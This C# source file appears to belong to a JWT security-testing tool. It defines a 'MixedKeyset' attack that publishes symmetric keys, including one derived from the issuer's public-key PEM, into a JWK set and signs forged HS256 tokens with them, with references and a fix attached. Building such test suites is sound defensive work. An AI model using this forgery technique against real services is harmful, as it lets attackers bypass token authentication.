using System.Buffers.Text;
using System.Text;
using System.Text.Json.Nodes;
using CryptoAssert.Jwt.Jose;
using Microsoft.IdentityModel.Tokens;

namespace CryptoAssert.Jwt.Attacks;

/// <summary>
/// A shared secret (<c>oct</c>) slips into the published JWK set, and a token that asks for HS256 is verified with it:
/// everyone who can read the set can sign. RFC 7517 9.2, RFC 8725 3.1; CVE-2021-46743 is a relative.
/// </summary>
internal sealed class MixedKeyset : JwtAttack
{
    public override string Id => "CRY1056";

    public override JwtFamily Family => JwtFamily.UntrustedKey;

    public override JwtTier Tier => JwtTier.Validation;

    public override Severity Severity => Severity.High;

    public override IReadOnlyList<int> Cwe => [347, 522];

    public override IReadOnlyList<string> References => ["RFC 7517 9.2", "RFC 8725 3.1", "ASVS 9.1.2"];

    public override string Cause => "verified HS256 with a symmetric key out of its issuer's public JWK set";

    public override string Why => "whoever reads the public set holds the secret, and the token chooses to use it";

    public override string Fix =>
        "take only RSA and EC keys from a JWKS, as AddJwtBearer does, and set TokenValidationParameters.ValidAlgorithms";

    internal override Needs Needs => Needs.IssuerKey | Needs.Publisher;

    internal override IEnumerable<Forgery> Forge(Attacker attacker)
    {
        var further = FurtherKeys.Make(attacker);
        using (attacker.Publisher!.Publish(PublicJwk.Json(further.Key)))
        {
            yield return FurtherKeys.Control(further, attacker.Token);
        }

        var pem = attacker.PublicKeys.Select(PublicPem).FirstOrDefault(text => text is not null);
        foreach (var (secret, what) in new[]
        {
            (attacker.Bytes(64), "a secret"), (Encoding.UTF8.GetBytes(pem ?? ""), "the PEM of the public key"),
        })
        {
            if (secret.Length == 0)
            {
                continue;
            }

            var own = new JwsSigner(new SymmetricSecurityKey(secret) { KeyId = $"{further.Kid}-oct" }, "HS256");
            var sameKid = new JwsSigner(new SymmetricSecurityKey(secret) { KeyId = attacker.Issuer!.Kid }, "HS256");
            var noKid = new JwsSigner(new SymmetricSecurityKey(secret), "HS256");
            foreach (var (signer, named) in new[]
            {
                (own, "under its kid"), (sameKid, "under the kid of the public key"), (noKid, "without kid"),
            })
            {
                using var published = attacker.Publisher.Publish(Oct(secret, signer.Kid));
                yield return new Forgery(signer.SignAnew(attacker.Token), $"HS256 with {what} that is published as an oct "
                    + $"key, {named}");
            }
        }
    }

    private static JsonObject Oct(byte[] secret, string? kid)
    {
        var jwk = new JsonObject { ["kty"] = "oct", ["k"] = Base64Url.EncodeToString(secret), ["alg"] = "HS256", ["use"] = "sig" };
        if (kid is not null)
        {
            jwk["kid"] = kid;
        }

        return jwk;
    }

    private static string? PublicPem(SecurityKey key) =>
        JwsSigner.Rsa(key)?.ExportSubjectPublicKeyInfoPem() ?? JwsSigner.Ec(key)?.ExportSubjectPublicKeyInfoPem();
}
